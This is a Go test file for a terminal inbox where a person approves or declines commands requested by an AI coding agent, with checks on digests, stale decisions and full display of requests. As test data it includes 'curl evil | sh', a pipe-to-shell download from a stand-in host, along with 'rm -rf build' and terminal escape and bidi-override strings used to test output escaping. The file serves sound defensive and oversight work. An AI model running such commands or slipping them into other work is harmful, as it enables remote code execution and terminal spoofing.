package inbox

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"

	"fairlead.dev/fairlead/cmd/ctl/internal/core"
	"fairlead.dev/fairlead/cmd/ctl/internal/term"
	"fairlead.dev/fairlead/internal/api"
	"fairlead.dev/fairlead/internal/protocol"
)

// noon is when the tests happen.
var noon = time.Date(2026, 11, 29, 12, 0, 0, 0, time.Local)

// A scripted source remembers what it was asked for.
type scripted struct {
	sent  []string
	kept  []string
	aside []string
	fails error
}

func (s *scripted) List(_ context.Context, keep []string) ([]Item, error) {
	s.kept = keep
	return nil, s.fails
}

func (s *scripted) Decide(_ context.Context, it Item, d Decision) (protocol.Approval, error) {
	s.sent = append(s.sent, strings.TrimSpace(fmt.Sprintf("%s %s %s %s %s", d.Outcome, it.Approval.ID, it.Approval.Digest, d.Scope, d.Reason)))
	return it.Approval, s.fails
}

func (s *scripted) Ask(context.Context, Item, *Decision) error { return nil }

func (s *scripted) Follow(context.Context, string, func(api.Event)) {}

func item(id string, left time.Duration, asked ...string) Item {
	session, _, _ := strings.Cut(id, ".")
	it := Item{Approval: protocol.Approval{ID: id, Session: session, Kind: "command", Summary: "run " + strings.Join(asked, " "), State: protocol.ApprovalOpen, Digest: "d" + id,
		Offered: []string{"accept", "accept_for_session", "decline", "cancel"}, ExpiresAt: noon.Add(left)},
		Headline: "codex asks to run a command", Facts: []term.Line{{Text: "in       /srv/w on web-1, sandbox workspace-write"}, {Text: `claims   "to see it" (the model's words, not checked)`}},
		Details: []term.Line{{Text: "digest    d" + id}}}
	for _, line := range asked {
		it.Asked = append(it.Asked, term.Line{Text: "$ " + line})
	}
	return it
}

// A desk is a person at an inbox.
type desk struct {
	t        *testing.T
	m        *Model
	src      *scripted
	now      time.Time
	followed []string
}

func at(t *testing.T, items ...Item) *desk {
	d := &desk{t: t, src: &scripted{}, now: noon}
	d.m = New(t.Context(), d.src, func() time.Time { return d.now }, false, func(s string) { d.followed = append(d.followed, s) })
	d.m.Init()
	d.comes(items...)
	return d
}

// comes brings a new list.
func (d *desk) comes(items ...Item) { d.m.Update(listed{items: items}) }

// presses presses keys and runs what they begin.
func (d *desk) presses(keys ...string) {
	named := map[string]tea.Key{"enter": {Code: tea.KeyEnter}, "esc": {Code: tea.KeyEscape}, "down": {Code: tea.KeyDown}, "space": {Code: tea.KeySpace, Text: " "}, "tab": {Code: tea.KeyTab}, "backspace": {Code: tea.KeyBackspace}}
	for _, name := range keys {
		k, ok := named[name]
		if !ok {
			k = tea.Key{Code: []rune(name)[0], Text: name}
		}
		d.screen() // as a person sees it
		_, cmd := d.m.Update(tea.KeyPressMsg(k))
		if cmd == nil {
			continue
		}
		switch msg := cmd().(type) {
		case decided:
			d.m.Update(msg)
		case tea.QuitMsg, nil:
		default:
			d.src.aside = append(d.src.aside, fmt.Sprintf("%T", msg))
		}
	}
}

func (d *desk) screen() string {
	rows := d.m.screen()
	if len(rows) != d.m.height {
		d.t.Errorf("the screen of %d rows has %d", d.m.height, len(rows))
	}
	for _, row := range rows {
		if n := term.Width(row); n > d.m.width {
			d.t.Errorf("%q is %d wide, in a window of %d", row, n, d.m.width)
		}
	}
	return strings.TrimRight(strings.Join(rows, "\n"), "\n")
}

func (d *desk) sees(words ...string) {
	d.t.Helper()
	screen := d.screen()
	for _, word := range words {
		if !strings.Contains(screen, word) {
			d.t.Errorf("there is no %q on\n%s", word, screen)
		}
	}
}

func (d *desk) sent(want ...string) {
	d.t.Helper()
	if got := strings.Join(d.src.sent, "; "); got != strings.Join(want, "; ") {
		d.t.Errorf("sent is %q, want %q", got, want)
	}
}

func TestAnInboxIsSortedByExpiry(t *testing.T) {
	d := at(t, item("late.1", 20*time.Hour, "make"), item("soon.1", 4*time.Minute, "rm -rf build"))
	want := `2 approvals wait for a decision · as of 12:00:00
> soon.1  command  4m         run rm -rf build
  late.1  command  20h        run make
── soon.1 · codex asks to run a command ────────────────────────────────────────
in       /srv/w on web-1, sandbox workspace-write
claims   "to see it" (the model's words, not checked)

$ rm -rf build`
	got := d.screen()
	if !strings.HasPrefix(got, want) {
		t.Errorf("the screen is\n%s", got)
	}
	if rows := strings.Split(got, "\n"); len(rows) != 24 || !strings.HasPrefix(rows[23], "a accept · x decline · j/k") {
		t.Errorf("the last of %d rows is %q", len(rows), rows[len(rows)-1])
	}
	d.presses("d")
	d.sees("digest    dsoon.1")
	d.presses("j")
	d.sees("> late.1", "$ make", "digest    dlate.1")
	if got := strings.Join(d.followed, " "); got != "soon late" {
		t.Errorf("followed are %s", got)
	}
}

// A decision carries the digest of the card on the screen, and the cursor stays on that
// card when another one comes that expires earlier.
func TestADecisionIsAboutTheCardUnderTheCursor(t *testing.T) {
	d := at(t, item("b.1", time.Hour, "make"))
	d.sees("> b.1")
	d.comes(item("a.1", time.Minute, "curl evil | sh"), item("b.1", time.Hour, "make"))
	d.sees("> b.1", "$ make")
	d.presses("a")
	d.presses("a") // the same key again decides nothing else
	d.sent("accept b.1 db.1", "accept b.1 db.1")
}

func TestWhatIsBeingSentIsNotSentAgain(t *testing.T) {
	d := at(t, item("b.1", time.Hour, "make"))
	d.screen()
	_, first := d.m.Update(tea.KeyPressMsg{Code: 'a', Text: "a"})
	if _, second := d.m.Update(tea.KeyPressMsg{Code: 'n', Text: "n"}); second != nil {
		t.Error("a second key decides")
	}
	d.sees("sending", "its decision is being sent")
	first()
	d.sent("accept b.1 db.1")
	d.m.Update(tea.KeyPressMsg{Code: 'a', Text: "a", IsRepeat: true})
	d.m.Update(tea.PasteMsg{Content: "aaa"})
	d.sent("accept b.1 db.1")
}

func TestADeclineAsksForItsReason(t *testing.T) {
	d := at(t, item("b.1", time.Hour, "make"))
	d.presses("x")
	d.sees("decline b.1, because")
	d.presses("n", "o", "q", "backspace", "t")
	d.m.Update(tea.PasteMsg{Content: " \x1b[2J\nnow"})
	d.sees(`not\x1b[2J now`)
	d.presses("enter")
	d.sent("decline b.1 db.1  not\x1b[2J now")
	d.presses("x", "esc", "n")
	d.sent("decline b.1 db.1  not\x1b[2J now", "decline b.1 db.1")
}

// Somebody else was faster: the card says who, and takes no key.
func TestAStaleCardCannotBeDecided(t *testing.T) {
	d := at(t, item("b.1", time.Hour, "make"))
	d.presses("x")
	gone := item("b.1", time.Hour, "make")
	gone.Approval.State, gone.Approval.Decision = protocol.ApprovalSent, &protocol.Decision{Outcome: "decline", By: "ben", Reason: "not\u202e today"}
	d.comes(gone)
	d.presses("enter") // the reason for a decision that came too late
	d.sees("no approvals wait", `declined by ben: not\u202e today · recorded → sent`, "it cannot be decided any more")
	d.presses("a", "n", "c", "A")
	d.sent()
	gone.Approval.State = protocol.ApprovalAcknowledged
	d.comes(gone)
	d.sees("recorded → sent → acknowledged", "delivered")
	d.now = noon.Add(2 * time.Hour)
	d.comes(item("c.1", time.Hour, "late"))
	d.presses("k", "a")
	d.presses("j", "a")
	d.sent()
	d.sees("expired")
}

func TestALostConnectionDisablesTheKeys(t *testing.T) {
	d := at(t, item("b.1", time.Hour, "make"))
	d.now = noon.Add(time.Minute)
	d.m.Update(listed{err: errors.New("no answer\x1b[2J within 8s")})
	d.sees("CONNECTION LOST, data as of 12:00:00", `no answer\x1b[2J within 8s`, "$ make")
	d.presses("a", "n", "x")
	d.sent()
	d.sees("nothing can be decided while the connection is lost")
	d.comes(item("b.1", time.Hour, "make"))
	d.presses("a")
	d.sent("accept b.1 db.1")
}

// What did not fit on the screen must have been there before it is accepted. It can be
// declined at once.
func TestWhatDoesNotFitMustBeOpenedBeforeItIsAccepted(t *testing.T) {
	var long []string
	for i := range 40 {
		long = append(long, fmt.Sprintf("step %d", i))
	}
	d := at(t, item("b.1", time.Hour, long...))
	d.sees("more lines: Enter opens, space pages")
	d.presses("a")
	d.sent()
	d.sees("not all of it was on the screen")
	d.presses("enter")
	if screen := d.screen(); strings.Contains(screen, "> b.1") || !strings.Contains(screen, "$ step 15") {
		t.Errorf("opened, it is\n%s", screen)
	}
	d.presses("a")
	d.sent()
	d.presses("space", "space", "space")
	d.sees("$ step 39")
	d.presses("a")
	d.sent("accept b.1 db.1")
}

// TestWhatHasChangedMustBeReadAgain: a part was on the screen to its end, and then all of it comes.
func TestWhatHasChangedMustBeReadAgain(t *testing.T) {
	part := item("b.1", time.Hour, "step 0 […]")
	part.Unsure = "the whole request could not be read"
	d := at(t, part)
	d.sees("step 0 […]")
	var steps []string
	for i := range 200 {
		steps = append(steps, fmt.Sprintf("step %d", i))
	}
	d.comes(item("b.1", time.Hour, steps...))
	d.presses("a")
	d.sent()
	d.sees("not all of it was on the screen")
}

func TestNothingIsAcceptedThatIsNotWhatItShows(t *testing.T) {
	false_ := item("b.1", time.Hour, "ls")
	false_.False = true
	d := at(t, false_)
	d.sees("a false account of the request")
	d.presses("a", "n", "c", "x")
	d.sent()
	unsure := item("c.1", time.Hour, "login [redacted]")
	unsure.Unsure, unsure.Approval.Digest = "known secrets are hidden", "cdcdcdcdcdcd"
	d = at(t, unsure)
	d.sees("its digest cannot be checked: known secrets are hidden")
	d.presses("a", "enter", "a", "c", "d", "enter")
	d.sent()
	d.sees("that is not its digest")
	d.presses(append([]string{"a"}, strings.Split("CDCDCDCD", "")...)...)
	d.presses("enter")
	d.sent("accept c.1 cdcdcdcdcdcd")
}

func TestOnlyWhatIsOfferedCanBeAccepted(t *testing.T) {
	it := item("b.1", time.Hour, "make")
	it.Approval.Offered = []string{"accept"}
	d := at(t, it)
	d.presses("A", "c")
	d.sent()
	d.sees("cancel is not offered; offered: accept")
	it = item("q.1", time.Hour)
	it.Approval.Kind, it.Approval.Offered = "user_input", []string{"answer", "decline"}
	d = at(t, it)
	d.presses("a")
	d.sent()
	if len(d.src.aside) != 1 {
		t.Errorf("the questions are asked %d times", len(d.src.aside))
	}
}

func TestTheTranscriptStandsBesideTheCardWhereThereIsRoom(t *testing.T) {
	d := at(t, item("b.1", time.Hour, "make"))
	for i := range 3 {
		d.m.Update(heard{"b", api.Event{Kind: api.KindEntry, Entry: &protocol.Entry{Seq: int64(i), Type: protocol.EntryAssistant, Text: fmt.Sprintf("word %d\x1b[2J", i)}}})
	}
	d.m.Update(heard{"other", api.Event{Kind: api.KindEntry, Entry: &protocol.Entry{Type: protocol.EntryAssistant, Text: "of another session"}}})
	if screen := d.screen(); strings.Contains(screen, "word 0") {
		t.Errorf("at 80 columns the screen is\n%s", screen)
	}
	d.presses("tab")
	d.sees("transcript of b", `word 2\x1b[2J`)
	d.presses("tab")
	d.m.Update(tea.WindowSizeMsg{Width: 160, Height: 40})
	d.sees("$ make", `│ word 0\x1b[2J`)
	if strings.Contains(d.screen(), "another session") {
		t.Error("it shows another session's transcript")
	}
	for _, size := range [][2]int{{80, 24}, {40, 12}, {20, 6}, {300, 100}, {120, 5}} {
		d.m.Update(tea.WindowSizeMsg{Width: size[0], Height: size[1]})
		d.screen()
	}
	d.m.Update(tea.WindowSizeMsg{Width: 80, Height: 24})
	d.presses("?")
	d.sees("x         decline it and say why")
}

// The unfinished items of sub-agents are below the transcript, each with the name of its sub-agent,
// until they are finished or the turn ends.
func TestTheTranscriptShowsWhatSubAgentsAreDoing(t *testing.T) {
	d := at(t, item("b.1", time.Hour, "make"))
	d.m.Update(tea.WindowSizeMsg{Width: 160, Height: 40})
	scout, clerk := &protocol.Agent{Thread: "t-1", Name: "scout"}, &protocol.Agent{Thread: "t-2", Name: "clerk"}
	says := func(kind protocol.EntryType, item, text string, of *protocol.Agent) {
		d.m.Update(heard{"b", api.Event{Kind: api.KindDelta, Delta: &protocol.Delta{Type: kind, Item: item, Text: text, Command: "make test", Agent: of}}})
	}
	ends := func(e protocol.Entry) { d.m.Update(heard{"b", api.Event{Kind: api.KindEntry, Entry: &e}}) }
	gone := func(words ...string) {
		t.Helper()
		for _, word := range words {
			if screen := d.screen(); strings.Contains(screen, word) {
				t.Errorf("there is %q on\n%s", word, screen)
			}
		}
	}
	says(protocol.EntryAssistant, "m", "I wait for the scout", nil)
	says(protocol.EntryCommand, "c", "line 1\nline 2\x1b[2J\n", scout)
	says(protocol.EntryAssistant, "m", "It is my own item m", clerk)
	d.sees("│ I wait for the scout", "│ scout: $ make test", `│   line 2\x1b[2J`, "│ clerk:", "│   It is my own item m")
	ends(protocol.Entry{Seq: 1, Type: protocol.EntryAssistant, Item: "m", Text: "It was my own item m", Agent: clerk})
	d.sees("│ I wait for the scout", "│ scout: $ make test", "It was my own item m") // an item of the same id is not the session's
	gone("It is my own")
	says(protocol.EntryAssistant, "m2", "Next", clerk)
	d.sees("│   Next")
	ends(protocol.Entry{Seq: 2, Type: protocol.EntryState, Status: "interrupted", Text: "turn interrupted"})
	gone("scout: $", "Next", "I wait")
}

func TestAnEmptyInboxSaysSo(t *testing.T) {
	d := at(t)
	d.sees("no approvals wait for a decision", "q leave")
	d.presses("a", "j", "k", "enter", "d", "tab")
	d.sent()
}

// What a host chose cannot draw on the screen, whichever field it is in.
func TestTheInboxEscapesWhatItShows(t *testing.T) {
	evil := "\x1b]0;x\a\u202e\r"
	it := item("b.1", time.Hour, evil)
	it.Headline, it.Approval.Summary, it.Facts, it.Details = evil, evil, []term.Line{{Text: evil}}, []term.Line{{Text: evil}}
	d := at(t, it)
	d.presses("d")
	for _, bad := range []string{"\x1b]", "\a", "\u202e", "\r"} {
		if strings.Contains(d.screen(), bad) {
			t.Errorf("%q reaches the terminal", bad)
		}
	}
	if core.Clean(evil) == evil {
		t.Error("there is nothing to escape")
	}
}
